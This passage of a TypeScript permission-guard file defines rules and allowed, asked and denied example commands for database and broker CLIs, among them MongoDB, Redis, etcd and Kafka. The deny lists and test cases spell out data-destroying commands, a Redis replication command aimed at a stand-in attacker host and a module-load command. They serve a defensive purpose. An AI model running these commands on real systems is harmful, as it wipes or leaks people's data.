/** Clients of document, key-value, column and message stores. */
import { effectOf } from "../../effects/database.js";
import { readRedis } from "../../effects/nosql/redis.js";
import { Taint, type Word } from "../../shell/types.js";
import { defineTool } from "../../tools/define.js";
import type { Emit, Invocation, ToolRule } from "../../tools/types.js";
import { commandRule } from "../types.js";
import {
  emitStdin,
  isProductionContext,
  isScratchAddress,
  joinStatements,
} from "./lib/connection.js";

function scratchDatabase(i: Invocation, word: Word | undefined): boolean {
  return isScratchAddress(word) && !isProductionContext(i);
}

const mongosh = defineTool({
  names: ["mongosh", "mongo"],
  about: "MongoDB's shell",
  options: `--eval=; -f --file=; --host=; --port=; -h --help; -u --username=; -p --password=?; --authenticationDatabase=; --authenticationMechanism=; --nodb; --norc; --quiet; --shell; --tls; --ssl; --tlsCAFile=; --tlsCertificateKeyFile=
    --tlsAllowInvalidCertificates; --json=?; --verbose; --version; --retryWrites; --apiVersion=; --awsAccessKeyId=; --disableImplicitSessions; --serverSelectionTimeoutMS=; --networkMessageCompressors=`,
  nature: "update",
  effects(i, emit) {
    const scripts = i.operands.filter((word) => /\.(m?js)$/.test(word.text));
    const database = i.operands.find((word) => !scripts.includes(word));
    const about = { scratch: scratchDatabase(i, database) };
    const code = joinStatements(i.values("--eval"));
    if (code !== undefined) emit.database("mongosh", code, about);
    const files = [...i.values("--file"), ...scripts];
    for (const file of files) emit.file("read", file);
    if (code === undefined && files.length === 0) emitStdin(emit, "mongosh", about);
  },
  allowed: [
    `mongosh app --eval 'db.users.find({name: "drop()"}).limit(5)'`,
    "mongosh --eval 'JSON.stringify(db.foo.findOne())' app",
    "mongosh mongodb://localhost:27017/app --quiet --eval 'db.users.countDocuments()'",
    "mongosh app_test --eval 'db.dropDatabase()'",
    `mongosh app --eval 'db.users.deleteOne({_id: 1})'`,
  ],
  asked: ["mongosh admin --eval 'db.shutdownServer()'"],
  denied: [
    `mongosh app --eval 'db.dropUser("app")'`,
    "mongosh app --eval 'db.dropDatabase()'",
    `mongosh app --eval 'db.getCollection("users").drop()'`,
    "mongo app --eval 'db.users.remove({})'",
    "echo 'db.users.deleteMany({})' | mongosh app",
    `mongosh app --eval 'db.runCommand({dropDatabase: 1})'`,
  ],
});

const mongoConnection = `-v --verbose=?; --quiet; --help; --version; -h --host=; --port=; --ssl; --sslCAFile=; --sslPEMKeyFile=; --tls; -u --username=; -p --password=; --authenticationDatabase=; --authenticationMechanism=; --uri=; --config=
  -d --db=; -c --collection=; --tlsInsecure; --gssapiServiceName=; --awsSessionToken=`;

const mongodump = defineTool({
  names: ["mongodump", "mongoexport", "bsondump", "mongostat", "mongotop"],
  about: "reads from MongoDB into files",
  options: `${mongoConnection}; -q --query=; --queryFile=; --readPreference=; --forceTableScan; -o --out=; --gzip; --oplog; --archive=?; --dumpDbUsersAndRoles; --excludeCollection=; --excludeCollectionsWithPrefix=; -j --numParallelCollections=; --viewsAsCollections
    -f --fields=; --fieldFile=; --type=; --jsonFormat=; --jsonArray; --pretty; --skip=; --limit=; --sort=; --noHeaderLine; --assertExists; --bsonFile=; --outFile=; -n --rowcount=; --noheaders; --discover; --json; --all`,
  nature: "read",
  effects(i, emit) {
    const out = i.value("--out") ?? i.value("--archive") ?? i.value("--outFile");
    if (out !== undefined && out.text !== "-" && out.text !== "")
      emit.file("overwrite", out, i.program === "mongodump" ? { recursive: true } : {});
  },
  stdout: () => ({ taints: Taint.command, through: ["mongodump"] }),
  allowed: [
    "mongodump --db app --out dump",
    "mongoexport --db app --collection users --out users.json",
    "mongodump --archive=app.gz --gzip --db app",
  ],
});

const mongorestore = defineTool({
  names: ["mongorestore", "mongoimport"],
  about: "loads files into MongoDB",
  options: `${mongoConnection}; --objcheck; --oplogReplay; --oplogLimit=; --oplogFile=; --archive=?; --restoreDbUsersAndRoles; --dir=; --gzip; --nsExclude=; --nsInclude=; --nsFrom=; --nsTo=; --excludeCollection=; --drop; --dryRun; --writeConcern=; --noIndexRestore; --convertLegacyIndexes
    --noOptionsRestore; --keepIndexVersion; --maintainInsertionOrder; -j --numParallelCollections=; --numInsertionWorkersPerCollection= --numInsertionWorkers=; --stopOnError; --bypassDocumentValidation; --preserveUUID; --fixDottedHashIndex
    -f --fields=; --fieldFile=; --file=; --headerline; --jsonArray; --parseGrace=; --type=; --columnsHaveTypes; --ignoreBlanks; --mode=; --upsertFields=; --legacy; --useArrayIndexFields`,
  nature: "update",
  dryRun: "--dryRun",
  effects(i, emit) {
    for (const file of [i.value("--file"), i.value("--dir"), ...i.operands])
      if (file !== undefined) emit.file("read", file);
  },
  rules: [
    {
      id: "restore-drop",
      when: (i) => i.has("--drop") && !scratchDatabase(i, i.value("--db") ?? i.value("--uri")),
      decision: "deny",
      why: "drops each collection before it loads it",
      instead:
        "load into a new database: `mongorestore --nsFrom 'app.*' --nsTo 'app_restored.*' dump`",
      attack: ["T1485"],
      matches: [
        "mongorestore --drop dump",
        "mongoimport --db app --collection users --drop --file users.json",
        "mongorestore --drop --uri mongodb://db.example.com/app dump",
      ],
      nonMatches: [
        "mongorestore --db app_restored dump/app",
        "mongoimport --db app_test --collection users --drop --file users.json",
        "mongorestore --drop --dryRun dump",
      ],
    },
    {
      id: "import-deletes",
      when: (i) => i.value("--mode")?.text === "delete" && !scratchDatabase(i, i.value("--db")),
      decision: "ask",
      why: "deletes the documents that the file names",
      instead:
        "count them first with `mongosh app --eval 'db.users.countDocuments({expired: true})'`",
      attack: ["T1485"],
      matches: [
        "mongoimport --mode delete --db app --collection users --file users.json",
        "mongoimport --file users.json --mode=delete -d app -c users",
      ],
      nonMatches: [
        "mongoimport --mode upsert --db app --collection users --file users.json",
        "mongoimport --db app --collection users --file users.json",
      ],
    },
    {
      id: "restore-production",
      when: isProductionContext,
      decision: "ask",
      why: "loads data into a database that is named production",
      instead: "load into a new database first: `mongorestore --db app_restored dump/app`",
      attack: ["T1565.001"],
      matches: [
        "mongorestore --uri mongodb://prod-db/app dump",
        "mongoimport -h db.prod.example.com -d app -c users --file users.json",
      ],
      nonMatches: [
        "mongorestore --db app_restored dump/app",
        "mongodump --uri mongodb://prod-db/app",
      ],
    },
  ],
  allowed: [
    "mongorestore --db app_restored dump/app",
    "mongoimport --db app --collection users --file users.json",
    "mongorestore --drop --db app_test dump/app",
  ],
});

const mongoServer = defineTool({
  names: ["mongod", "mongos"],
  about: "the MongoDB server itself",
  options: `--dbpath=; --port=; --bind_ip=; --bind_ip_all; --fork; --logpath=; --logappend; --replSet=; --auth; --noauth; -f --config=; --repair; --shutdown; --configdb=; --quiet; --version; --wiredTigerCacheSizeGB=; --pidfilepath=; --setParameter=; --storageEngine=`,
  nature: "lifecycle",
  allowed: ["mongod --dbpath data --port 27018", "mongod --version"],
});

const mongofiles = defineTool({
  names: ["mongofiles"],
  about: "files kept in MongoDB",
  options: `${mongoConnection}; -l --local=; -t --type=; -r --replace; --prefix=`,
  verbs: { read: "list, search, get, get_id", update: "put, put_id", delete: "delete, delete_id" },
  allowed: ["mongofiles -d app list", "mongofiles -d app put report.pdf"],
  asked: ["mongofiles -d app delete report.pdf"],
});

/** Words of redis-cli are one command. */
function emitRedis(i: Invocation, emit: Emit): void {
  const script = i.value("--eval");
  if (script !== undefined) {
    emit.file("read", script);
    return;
  }
  const words = i.operands.map((word) => (word.known ? word.text : `$${word.text}`));
  if (words.length === 0) {
    emitStdin(emit, "redis", { scratch: false });
    return;
  }
  for (const statement of readRedis(words)) {
    const { kind: _kind, ...effect } = effectOf("redis", statement, false);
    emit.databaseEffect(effect);
  }
}

const redisCli = defineTool({
  names: ["redis-cli", "valkey-cli", "keydb-cli", "iredis"],
  about: "sends commands to a Redis server",
  style: "posix",
  options: `-h=; -p=; -t=; -s=; -a --pass=; --user=; --askpass; -u=; -r=; -i=; -n=; -2; -3; -x; -X=; -d=; -D=; -c; -e; -4; -6; --tls; --sni=; --cacert=; --cacertdir=; --insecure; --cert=; --key=; --tls-ciphers=; --raw; --no-raw; --quoted-input; --csv; --json; --quoted-json; --show-pushes=
    --stat; --latency; --latency-history; --latency-dist; --lru-test=; --replica; --rdb=; --functions-rdb=; --pipe; --pipe-timeout=; --bigkeys; --memkeys; --memkeys-samples=; --hotkeys; --scan; --pattern=; --count=; --quoted-pattern=; --intrinsic-latency=; --eval=; --ldb; --ldb-sync-mode; --cluster=; --verbose; --no-auth-warning; --help; -v --version; --sentinel; --url=; --decode=`,
  nature: "update",
  help: "--help, --version",
  effects(i, emit) {
    if (i.help) return;
    const dump = i.value("--rdb") ?? i.value("--functions-rdb");
    if (dump !== undefined) emit.file("overwrite", dump);
    if (
      i.has(
        "--cluster",
        "--scan",
        "--stat",
        "--bigkeys",
        "--memkeys",
        "--hotkeys",
        "--latency",
        "--rdb",
      )
    )
      return;
    emitRedis(i, emit);
  },
  rules: [
    {
      id: "redis-cluster",
      when: (i) =>
        /^(del-node|reshard|rebalance|fix|create|call|add-node|import|set-timeout)$/.test(
          i.value("--cluster")?.text ?? "",
        ),
      decision: "ask",
      why: "changes or commands all nodes of a Redis cluster",
      instead: "look at it with `redis-cli --cluster check localhost:7000`",
      attack: ["T1565.001"],
      matches: [
        "redis-cli --cluster reshard localhost:7000",
        "redis-cli --cluster del-node localhost:7000 0123abc",
      ],
      nonMatches: [
        "redis-cli --cluster check localhost:7000",
        "redis-cli --cluster info localhost:7000",
      ],
    },
    {
      id: "redis-cluster-flush",
      when: (i) =>
        i.value("--cluster")?.text === "call" &&
        i.operands.some((word) => /^flush(all|db)$/i.test(word.text)),
      decision: "deny",
      why: "empties every node of the cluster",
      instead: "look at it with `redis-cli --cluster info localhost:7000`",
      attack: ["T1485"],
      matches: [
        "redis-cli --cluster call localhost:7000 FLUSHALL",
        "redis-cli -a secret --cluster call localhost:7000 flushdb",
      ],
      nonMatches: [
        "redis-cli --cluster call localhost:7000 INFO",
        "redis-cli --cluster info localhost:7000",
      ],
    },
  ],
  allowed: [
    "redis-cli ping",
    "redis-cli -h localhost -p 6380 -n 2 GET session:1",
    "redis-cli --scan --pattern 'user:*'",
    "redis-cli SET greeting 'FLUSHALL is a command'",
    "redis-cli --bigkeys",
    "redis-cli INFO memory",
    "redis-cli DEL session:1",
  ],
  asked: ["redis-cli CONFIG SET maxmemory 1gb", "redis-cli CLIENT KILL TYPE normal"],
  denied: [
    "redis-cli flushall",
    "redis-cli -h cache -n 1 FLUSHDB ASYNC",
    "echo FLUSHALL | redis-cli",
    `redis-cli EVAL "return redis.call('FLUSHALL')" 0`,
    "redis-cli SLAVEOF attacker.example.com 6379",
    "redis-cli MODULE LOAD /tmp/x.so",
  ],
});

const redisServer = defineTool({
  names: [
    "redis-server",
    "redis-sentinel",
    "valkey-server",
    "keydb-server",
    "redis-benchmark",
    "valkey-benchmark",
    "redis-check-rdb",
    "redis-check-aof",
  ],
  about: "Redis servers, their checks and measurements",
  options: `--port=; -p=; --bind=; --daemonize=; --save=; --appendonly=; --dir=; --dbfilename=; --requirepass=; --maxmemory=; --loglevel=; --protected-mode=; --replicaof=; --slaveof=; --logfile=; --fix; --sentinel; -h=; -n=; -c=; -q; -t=; -d=; -r=; -P=; -a=; --csv; --cluster-enabled=; --version -v; --help`,
  nature: "lifecycle",
  allowed: [
    "redis-server --port 6380 --save ''",
    "redis-benchmark -q -n 1000",
    "redis-check-rdb dump.rdb",
  ],
});

const cqlsh = defineTool({
  names: ["cqlsh"],
  about: "Cassandra's client",
  options: `-e --execute=; -f --file=; -k --keyspace=; -u --username=; -p --password=; --ssl; --no_compact; --encoding=; --cqlshrc=; --credentials=; --cqlversion=; -C --color; --no-color; --browser=; --connect-timeout=; --request-timeout=; -t --tty; --debug; --coverage; --version; --disable-history; --protocol-version=; -b --secure-connect-bundle=`,
  nature: "update",
  effects(i, emit) {
    const about = { scratch: scratchDatabase(i, i.value("--keyspace")) };
    const code = i.value("--execute");
    const file = i.value("--file");
    if (file !== undefined) emit.file("read", file);
    if (code !== undefined) emit.database("cqlsh", code, about);
    else if (file === undefined) emitStdin(emit, "cqlsh", about);
  },
  allowed: [
    `cqlsh -e "SELECT * FROM app.users LIMIT 5"`,
    "cqlsh localhost -e 'DESCRIBE KEYSPACES'",
    "cqlsh -f schema.cql",
    `cqlsh -e "DROP KEYSPACE app_test"`,
  ],
  denied: [
    `cqlsh -e "DROP KEYSPACE app"`,
    `cqlsh -k app -e "TRUNCATE users"`,
    "echo 'DROP TABLE app.users;' | cqlsh",
  ],
});

const nodetool = defineTool({
  names: ["nodetool"],
  about: "administers a Cassandra node",
  options:
    "-h --host=; -p --port=; -u --username=; -pw --password=; -pp --print-port; -t --tag=; -cf --column-family=; -kt=; -r; -pr; -full --full; -j=; -D",
  verbs: {
    read: "status, info, ring, tpstats, describecluster, failuredetector, getlogginglevels, gettraceprobability, get*, rangekeysample, sjk, toppartitions, profileload, listpendinghints, statusbackup, statusbinary, statusgossip, statushandoff, statusautocompaction, refreshsizeestimates, datapaths, help, bootstrap status, compactionhistory, repair_admin list, describe, sstableinfo, toptables, tablestats, cfstats, netstats, compactionstats, describecluster, gossipinfo, version, listsnapshots, getendpoints, proxyhistograms, tablehistograms, getcompactionthroughput, describering, gcstats, clientstats, viewbuildstatus",
    update:
      "flush, cleanup, compact, repair, snapshot, upgradesstables, refresh, scrub, garbagecollect, rebuild_index, setlogginglevel, invalidate*",
    lifecycle:
      "enablegossip, enablebinary, pausehandoff, resumehandoff, stop, enableautocompaction, enablehandoff, enablebackup",
    delete: "clearsnapshot",
    // The node takes no more work, or leaves the others.
    "remote-change":
      "drain, disablegossip, disablebinary, stopdaemon, move, rebuild, set*, join, enable*, disable*, truncatehints, repair_admin cancel, bootstrap resume, import, reload*, abortrebuild",
    destroy: "decommission, removenode, assassinate",
  },
  rules: [
    {
      id: "every-snapshot",
      on: "clearsnapshot",
      when: (i) => !i.has("--tag"),
      decision: "deny",
      why: "deletes every snapshot, which are the backups of the node",
      instead: "list them first: `nodetool listsnapshots`",
      attack: ["T1490"],
      matches: ["nodetool clearsnapshot --all", "nodetool clearsnapshot"],
      nonMatches: ["nodetool listsnapshots", "nodetool clearsnapshot -t before"],
    },
  ],
  allowed: ["nodetool status", "nodetool flush app", "nodetool snapshot -t before app"],
  asked: ["nodetool clearsnapshot -t before"],
  denied: ["nodetool decommission", "nodetool removenode 0123abc"],
});

const influx = defineTool({
  names: ["influx"],
  about: "InfluxDB's client",
  style: "single-dash",
  options: `-execute=; -host=; -port=; -username=; -password=; -database=; -format=; -precision=; -ssl; -unsafeSsl; -type=; -socket=; -import; -path=; -pretty; -consistency=; -version; --host=; -t --token=; -o --org=; --org-id=; -b --bucket=; --bucket-id=; --start=; --stop=; -p --predicate=; -n --name=; -i --id=; -f --file=
    --json; --hide-headers; -c --active-config=; --configs-path=; --skip-verify; --http-debug; --full; -r --retention=; --url=; --force`,
  verbs: {
    read: "query, bucket list, org list, ping, version, user list, task list, dashboards, backup, config list, export, stacks, telegrafs, server-config, completion",
    update:
      "write, bucket create, bucket update, task create, task update, task run, config create, config set, apply, template, setup, config, restore, org create, org update, stacks update, replication create, remote create",
    access:
      "auth create, auth active, auth inactive, auth list, user create, user update, user password, org members add, org members remove, v1 auth create, secret update",
    delete:
      "task delete, auth delete, user delete, secret delete, stacks remove, config rm, dashboards delete, v1 auth delete, remote delete, replication delete",
    destroy: "bucket delete, org delete, delete",
  },
  nature: "update",
  effects(i, emit) {
    const code = i.value("-execute");
    if (code !== undefined)
      emit.database("influx", code, { scratch: isScratchAddress(i.value("-database")) });
  },
  rules: [
    {
      id: "influx-retention",
      on: "bucket update",
      when: (i) =>
        i.value("--retention") !== undefined &&
        !/^(?:0|0s|inf)$/.test(i.value("--retention")?.text ?? ""),
      decision: "deny",
      why: "drops every point older than the new limit",
      instead: "look at it first: `influx bucket list`",
      attack: ["T1485"],
      matches: [
        "influx bucket update --id 0a1b2c3d4e5f6071 --retention 1h",
        "influx bucket update -i 0a1b --retention 30d",
      ],
      nonMatches: [
        "influx bucket update --id 0a1b --name app",
        "influx bucket update --id 0a1b --retention 0",
      ],
    },
    {
      id: "influx-restore-full",
      on: "restore",
      when: (i) => i.has("--full"),
      decision: "deny",
      why: "replaces everything on the server with the backup",
      instead:
        "restore one bucket under a new name: `influx restore backup --bucket app --new-bucket app_restored`",
      attack: ["T1485"],
      matches: ["influx restore backup --full", "influx restore --full backup"],
      nonMatches: [
        "influx restore backup --bucket app --new-bucket app_restored",
        "influx backup backup",
      ],
    },
  ],
  allowed: [
    `influx -execute 'SHOW DATABASES'`,
    "influx bucket list",
    `influx query 'from(bucket: "app") |> range(start: -1h)'`,
    "influx backup backup",
  ],
  denied: [
    `influx -execute 'DROP DATABASE app'`,
    `influx -database app -execute 'DROP MEASUREMENT cpu'`,
    "influx bucket delete --name app",
    "influx delete --bucket app --start 1970-01-01T00:00:00Z --stop 2030-01-01T00:00:00Z",
  ],
});

const etcdctl = defineTool({
  names: ["etcdctl"],
  about: "works on etcd's keys and cluster",
  options: `--endpoints=; --cacert=; --cert=; --key=; --user=; --password=; -w --write-out=; --debug; --command-timeout=; --dial-timeout=; --insecure-skip-tls-verify; --insecure-transport; --hex; --discovery-srv=; --cluster; --prefix; --from-key; --prev-kv; --range; --rev=; --keys-only; --limit=; --order=; --sort-by=
    --print-value-only; --count-only; --consistency=; --lease=; --ignore-value; --ignore-lease; -i --interactive; --data-dir=; --name=; --initial-cluster=; --skip-hash-check; --physical; --peer-urls=; --no-password; --new-user-password=; --wal-dir=; --learner; --ttl=`,
  verbs: {
    read: "get, watch, endpoint, member list, alarm list, snapshot status, check perf, check datascale, user list, user get, role list, role get, alarm list, lease list, lease timetolive, auth status, version, check, completion, ls",
    update:
      "put, lease grant, lease keep-alive, txn, lock, elect, make-mirror, set, mk, mkdir, update",
    create: "snapshot save",
    access:
      "user add, user passwd, user grant-role, user revoke-role, role add, role grant-permission, role revoke-permission, auth enable",
    "remote-change":
      "member add, member update, member promote, move-leader, alarm disarm, defrag, compaction, snapshot restore, downgrade",
    delete: "del, rm, lease revoke, user delete, role delete, rmdir",
    destroy: "member remove, auth disable",
  },
  runs(i, run) {
    // `watch key -- command`, `lock name command`
    const dashes = i.command.args.findIndex((word) => word.text === "--");
    if (i.verb === "watch" && dashes >= 0) run.argv(i.command.args.slice(dashes + 1));
    if (i.verb === "lock" && i.operands.length > 1) run.argv(i.operands.slice(1));
  },
  effects(i, emit) {
    const [file] = i.operands;
    if (i.verb === "snapshot save" && file !== undefined) emit.file("overwrite", file);
  },
  rules: [
    {
      id: "etcd-del-range",
      on: "del, rm",
      when: (i) =>
        i.has("--prefix", "--from-key", "--range") ||
        i.command.args.some((word) => /^-{1,2}recursive$/.test(word.text)) ||
        i.operands.length > 1,
      decision: "deny",
      why: "deletes a whole range of keys that a cluster may live by",
      instead:
        "list them with `etcdctl get --prefix --keys-only /app` and keep a copy with `etcdctl snapshot save backup.db`",
      attack: ["T1485"],
      matches: [
        "etcdctl del --prefix /app",
        "etcdctl del '' --from-key",
        "etcdctl del --prefix ''",
        "etcdctl rm --recursive /app",
      ],
      nonMatches: ["etcdctl del /app/flag", "etcdctl get --prefix /app"],
      evasions: ["ETCDCTL_API=3 etcdctl --endpoints=localhost:2379 del /app/ --prefix=true"],
    },
  ],
  allowed: [
    "etcdctl get --prefix --keys-only /app",
    "etcdctl put /app/flag on",
    "etcdctl endpoint health",
    "etcdctl snapshot save backup.db",
    "etcdctl member list",
  ],
  asked: ["etcdctl del /app/flag", "etcdctl user add app"],
  denied: [
    "etcdctl del --prefix /",
    "etcdctl member remove 8211f1d0f64f3269",
    "etcdctl auth disable",
  ],
});

const rabbitmqctl = defineTool({
  names: ["rabbitmqctl", "rabbitmq-queues", "rabbitmq-diagnostics", "rabbitmq-upgrade"],
  about: "administers a RabbitMQ broker",
  options:
    "-n --node=; -q --quiet; -s --silent; -l --longnames; -t --timeout=; -p --vhost=; --formatter=; --online; --offline; --no-table-headers; --apply-to=; --priority=; --if-empty; --if-unused; --hard; --dry-run",
  verbs: {
    read: "status, list_*, cluster_status, environment, report, ping, version, node_health_check, check_*, help, authenticate_user, export_definitions, memory_breakdown, observer, log_location, log_tail, listeners, quorum_status, is_booting, is_running, alarms, consume_event_stream",
    update:
      "set_policy, set_parameter, set_vm_memory_high_watermark, set_disk_free_limit, rotate_logs, sync_queue, cancel_sync_queue, set_log_level, trace_on, trace_off, add_vhost, await_startup, import_definitions, set_operator_policy, enable_feature_flag, wait, update_vhost_metadata, set_global_parameter, rebalance",
    lifecycle: "start_app, stop_app, stop, shutdown, revive",
    access:
      "add_user, change_password, set_permissions, set_topic_permissions, set_user_tags, clear_password, clear_permissions, clear_topic_permissions, encode, decode, hash_password",
    delete:
      "delete_user, clear_policy, clear_parameter, clear_operator_policy, close_connection, close_all_connections, close_all_user_connections, clear_global_parameter",
    "remote-change":
      "join_cluster, change_cluster_node_type, rename_cluster_node, update_cluster_nodes, eval, eval_file, force_boot, grow, shrink, add_member, delete_member, transfer_leadership, set_cluster_name",
    destroy:
      "reset, force_reset, delete_queue, purge_queue, delete_vhost, forget_cluster_node, remove_*",
  },
  allowed: [
    "rabbitmqctl list_queues name messages",
    "rabbitmqctl status",
    "rabbitmqctl add_vhost app",
  ],
  asked: [
    "rabbitmqctl add_user app secret",
    "rabbitmqctl delete_user app",
    "rabbitmqctl eval 'init:stop().'",
    "rabbitmqctl stop_app",
  ],
  denied: [
    "rabbitmqctl reset",
    "rabbitmqctl force_reset",
    "rabbitmqctl purge_queue jobs",
    "rabbitmqctl delete_queue jobs",
    "rabbitmqctl -n rabbit@host delete_vhost app",
  ],
});

const rabbitmqadmin = defineTool({
  names: ["rabbitmqadmin"],
  about: "RabbitMQ's client for its management interface",
  options:
    "-c --config=; -N --node=; -H --host=; -P --port=; --path-prefix=; -V --vhost=; -u --username=; -p --password=; -U --base-uri=; -q --quiet; -s --ssl; -f --format=; -S --sort=; -d --depth=; --bash-completion; --version; -k; -y --yes",
  verbs: {
    read: "list, show, export, get, definitions export, health_check",
    update: "declare, import, publish",
    delete: "close",
    destroy: "delete, purge",
  },
  allowed: ["rabbitmqadmin list queues", "rabbitmqadmin declare queue name=jobs durable=true"],
  denied: ["rabbitmqadmin delete queue name=jobs", "rabbitmqadmin purge queue name=jobs"],
});

const kafkaConnection =
  "--bootstrap-server=; --command-config=; --zookeeper=; --help; --version; --broker-list=; --bootstrap-controller=; --force";

const kafkaTopics = defineTool({
  names: ["kafka-topics", "kafka-topics.sh"],
  about: "makes, shows and deletes Kafka topics",
  options: `${kafkaConnection}; --alter; --at-min-isr-partitions; --config=; --create; --delete; --delete-config=; --describe; --exclude-internal; --if-exists; --if-not-exists; --list; --partitions=; --replica-assignment=; --replication-factor=; --topic=; --topic-id=; --topics-with-overrides; --unavailable-partitions; --under-replicated-partitions`,
  nature: "update",
  rules: [
    {
      id: "kafka-delete-topic",
      when: (i) => i.has("--delete"),
      decision: "deny",
      why: "deletes a topic with all its messages",
      instead:
        "look at it with `kafka-topics --bootstrap-server localhost:9092 --describe --topic orders`",
      attack: ["T1485"],
      matches: [
        "kafka-topics --bootstrap-server localhost:9092 --delete --topic orders",
        "kafka-topics.sh --zookeeper localhost:2181 --delete --topic 'orders.*'",
      ],
      nonMatches: [
        "kafka-topics --bootstrap-server localhost:9092 --list",
        "kafka-topics --bootstrap-server localhost:9092 --alter --topic orders --delete-config retention.ms",
      ],
    },
  ],
  allowed: [
    "kafka-topics --bootstrap-server localhost:9092 --list",
    "kafka-topics.sh --create --topic orders --bootstrap-server localhost:9092 --partitions 3",
  ],
});

const kafkaGroups = defineTool({
  names: [
    "kafka-consumer-groups",
    "kafka-consumer-groups.sh",
    "kafka-streams-application-reset",
    "kafka-streams-application-reset.sh",
  ],
  about: "shows and moves the positions of Kafka's consumers",
  options: `${kafkaConnection}; --all-groups; --all-topics; --by-duration=; --delete; --delete-offsets; --describe; --dry-run; --execute; --export; --from-file=; --group=; --list; --members; --offsets; --reset-offsets; --shift-by=; --state=?; --timeout=; --to-current; --to-datetime=; --to-earliest; --to-latest; --to-offset=; --topic=; --verbose; --application-id=; --input-topics=; --internal-topics=; --intermediate-topics=`,
  nature: "read",
  dryRun: "--dry-run",
  rules: [
    {
      id: "kafka-reset-offsets",
      when: (i) =>
        (i.has("--reset-offsets") && i.has("--execute")) || i.program.startsWith("kafka-streams"),
      decision: "deny",
      why: "moves consumers to another place, so messages are lost or handled twice",
      instead:
        "see what it would do: `kafka-consumer-groups --bootstrap-server localhost:9092 --group app --topic orders --reset-offsets --to-earliest --dry-run`",
      attack: ["T1565.001"],
      matches: [
        "kafka-consumer-groups --bootstrap-server localhost:9092 --group app --topic orders --reset-offsets --to-latest --execute",
        "kafka-streams-application-reset --application-id app",
      ],
      nonMatches: [
        "kafka-consumer-groups --bootstrap-server localhost:9092 --group app --reset-offsets --to-latest --all-topics",
        "kafka-consumer-groups --bootstrap-server localhost:9092 --describe --group app",
      ],
    },
    {
      id: "kafka-delete-group",
      when: (i) => i.has("--delete", "--delete-offsets"),
      decision: "deny",
      why: "deletes the positions of consumers, which cannot be made again",
      instead:
        "look at it with `kafka-consumer-groups --bootstrap-server localhost:9092 --describe --group app`",
      attack: ["T1485"],
      matches: [
        "kafka-consumer-groups --bootstrap-server localhost:9092 --delete --group app",
        "kafka-consumer-groups.sh --bootstrap-server localhost:9092 --delete-offsets --group app --topic orders",
      ],
      nonMatches: [
        "kafka-consumer-groups --bootstrap-server localhost:9092 --list",
        "kafka-consumer-groups --bootstrap-server localhost:9092 --describe --all-groups",
      ],
    },
  ],
  allowed: ["kafka-consumer-groups --bootstrap-server localhost:9092 --list"],
});

const kafkaOthers = defineTool({
  names: [
    "kafka-configs",
    "kafka-configs.sh",
    "kafka-acls",
    "kafka-acls.sh",
    "kafka-delete-records",
    "kafka-delete-records.sh",
    "kafka-storage",
    "kafka-storage.sh",
    "kafka-reassign-partitions",
    "kafka-reassign-partitions.sh",
    "kafka-leader-election",
    "kafka-leader-election.sh",
    "kafka-features",
    "kafka-features.sh",
  ],
  about: "settings, rights and storage of Kafka",
  options: `${kafkaConnection}; --alter; --describe; --add-config=; --delete-config=; --entity-type=; --entity-name=; --all; --add; --remove; --list; --allow-principal=; --deny-principal=; --operation=; --topic=; --group=; --cluster; --offset-json-file=; --reassignment-json-file=; --topics-to-move-json-file=; --generate; --execute; --verify; --throttle=; --election-type=; --all-topic-partitions; -t --cluster-id=; -c --config=; --ignore-formatted; --entity-default; --partition=`,
  nature: "read",
  rules: [
    {
      id: "kafka-delete-records",
      when: (i) =>
        i.program.startsWith("kafka-delete-records") ||
        (i.program.startsWith("kafka-storage") && i.operands[0]?.text === "format"),
      decision: "deny",
      why: "deletes messages from the broker for good",
      instead:
        "look at the topic with `kafka-topics --bootstrap-server localhost:9092 --describe --topic orders`",
      attack: ["T1485"],
      matches: [
        "kafka-delete-records --bootstrap-server localhost:9092 --offset-json-file offsets.json",
        "kafka-storage.sh format -t 0123 -c server.properties",
      ],
      nonMatches: [
        "kafka-storage random-uuid",
        "kafka-configs --bootstrap-server localhost:9092 --describe --entity-type topics --entity-name orders",
      ],
    },
    {
      id: "kafka-retention",
      when: (i) =>
        i.has("--alter") &&
        i
          .values("--add-config")
          .some((word) =>
            /(?:^|,)(?:\[)?(?:(?:local\.)?retention\.(?:ms|bytes)=\d{1,5}|delete\.retention\.ms=0|segment\.ms=\d{1,3})(?:\D|$)/.test(
              word.text,
            ),
          ),
      decision: "deny",
      why: "keeps messages for so short a time that the topic is emptied",
      instead:
        "look first: `kafka-configs --bootstrap-server localhost:9092 --describe --entity-type topics --entity-name orders`",
      attack: ["T1485"],
      matches: [
        "kafka-configs.sh --bootstrap-server kafka.example.com:9092 --alter --entity-type topics --entity-name orders --add-config retention.ms=1000",
      ],
      nonMatches: [
        "kafka-configs.sh --bootstrap-server kafka.example.com:9092 --alter --entity-type topics --entity-name orders --add-config retention.ms=604800000",
      ],
    },
    {
      id: "kafka-unclean",
      when: (i) =>
        i.program.startsWith("kafka-leader") &&
        /^unclean$/i.test(i.value("--election-type")?.text ?? ""),
      decision: "deny",
      why: "lets a replica lead that lacks messages, which are lost",
      instead:
        "look at the replicas first: `kafka-topics --bootstrap-server localhost:9092 --describe --under-replicated-partitions`",
      attack: ["T1485"],
      matches: [
        "kafka-leader-election.sh --bootstrap-server k1.example.com:9092 --election-type UNCLEAN --all-topic-partitions",
        "kafka-leader-election --bootstrap-server k1:9092 --election-type unclean --topic orders --partition 0",
      ],
      nonMatches: [
        "kafka-leader-election --bootstrap-server k1:9092 --election-type PREFERRED --topic orders --partition 0",
        "kafka-topics --bootstrap-server localhost:9092 --list",
      ],
    },
    {
      id: "kafka-change",
      when: (i) =>
        i.has("--alter", "--add", "--remove", "--execute") || i.program.startsWith("kafka-leader"),
      decision: "ask",
      why: "changes settings, rights or places of data on a shared broker",
      instead:
        "look first: `kafka-configs --bootstrap-server localhost:9092 --describe --entity-type topics --entity-name orders`",
      attack: [],
      matches: [
        "kafka-configs --bootstrap-server localhost:9092 --alter --entity-type topics --entity-name orders --add-config retention.ms=1000",
        "kafka-acls --bootstrap-server localhost:9092 --add --allow-principal User:app --operation Read --topic orders",
      ],
      nonMatches: [
        "kafka-acls --bootstrap-server localhost:9092 --list",
        "kafka-reassign-partitions --bootstrap-server localhost:9092 --verify --reassignment-json-file plan.json",
      ],
    },
  ],
  allowed: ["kafka-acls --bootstrap-server localhost:9092 --list", "kafka-storage random-uuid"],
});

const kafkaStreams = defineTool({
  names: [
    "kafka-console-consumer",
    "kafka-console-consumer.sh",
    "kafka-console-producer",
    "kafka-console-producer.sh",
    "kafka-log-dirs",
    "kafka-log-dirs.sh",
    "kafka-dump-log",
    "kafka-dump-log.sh",
